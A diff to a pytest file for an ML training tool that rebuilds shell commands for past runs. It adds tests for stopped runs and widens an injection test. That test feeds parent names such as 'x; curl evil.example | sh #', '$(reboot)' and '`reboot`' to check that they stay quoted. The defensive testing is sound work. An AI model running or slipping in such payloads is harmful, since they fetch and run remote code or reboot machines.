@@ -50,6 +50,19 @@ def test_defaults_that_depend_on_the_machine_are_spelled_out() -> None:
     assert "--batch-norm" in flags(BASE.replace(batch_norm=True))
 
 
+def test_a_run_that_was_stopped_says_that_its_command_does_not_stop() -> None:
+    run = finished_run(BASE, status="stopped", epochs=2)
+    assert commands(compare([run])) == [
+        "# plain was stopped by hand after 2 of 30 epochs: this command trains it to its end.",
+        f"mnist-tui train {flags(BASE)}",
+    ]
+
+
+def test_rows_that_were_stopped_are_no_one_command() -> None:
+    stopped = [finished_run(row, status="stopped") for row in classic_rows(BASE)]
+    assert [line for line in commands(compare(stopped)) if line.startswith("mnist-tui compare")] == []
+
+
 @pytest.mark.parametrize("seeds", [1, 3])
 def test_the_classic_three_are_one_command(seeds: int) -> None:
     shared = BASE.replace(epochs=7, seed=4, hidden=(32,))
@@ -165,10 +178,11 @@ def test_a_fork_is_made_again_by_forking() -> None:
     assert commands(compare([fork])) == [f"mnist-tui fork {PARENT} --epoch 2 --dropout 0.5 --epochs 9"]
 
 
-def test_a_parent_of_unknown_origin_cannot_bring_in_a_command_of_its_own() -> None:
-    fork = Forked(8, 2, "x; curl evil.example | sh #", {"dropout": "0.5"}, {"dropout": "0"})
+@pytest.mark.parametrize("parent", ["x; curl evil.example | sh #", "$(reboot)", "`reboot`", "it's"])
+def test_a_parent_of_unknown_origin_cannot_bring_in_a_command_of_its_own(parent: str) -> None:
+    fork = Forked(8, 2, parent, {"dropout": "0.5"}, {"dropout": "0"})
     [line] = commands(compare([altered_run(fork, config=BASE.replace(dropout=0.5))]))
-    assert shlex.split(line)[:3] == ["mnist-tui", "fork", "x; curl evil.example | sh #"]
+    assert shlex.split(line)[:3] == ["mnist-tui", "fork", parent]
 
 
 def test_one_altered_run_is_enough_for_a_command_a_run() -> None:
